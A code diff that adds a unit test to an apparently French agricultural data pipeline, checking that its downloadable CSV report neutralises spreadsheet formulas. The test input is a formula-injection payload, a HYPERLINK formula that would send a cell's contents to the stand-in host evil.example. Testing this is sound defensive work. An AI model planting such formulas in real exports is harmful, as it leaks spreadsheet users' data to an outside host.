@@ -55,6 +55,15 @@ def test_the_report_keeps_a_line_per_row_out_of_memory() -> None:
                                                           "feuille"
 
 
+def test_the_downloadable_report_neutralises_formulas() -> None:
+    report = pipeline.Report()
+    report.add(2, pipeline.REJECTED, '=HYPERLINK("http://evil.example/?"&A1;"clic")', "kind",
+               "valeur inconnue")
+    row = pipeline.report_csv(report).splitlines()[1]
+    assert row.startswith('2,rejected,"\'=HYPERLINK(')
+    assert list(report.lines())[0].label.startswith("=")  # the spool keeps what was read
+
+
 GOOD = f"""commune,crop_group,hectares,year,source
 34108,vegetables,12.5,2023,{SOURCE}
 34108,vines,800,2023,{SOURCE}
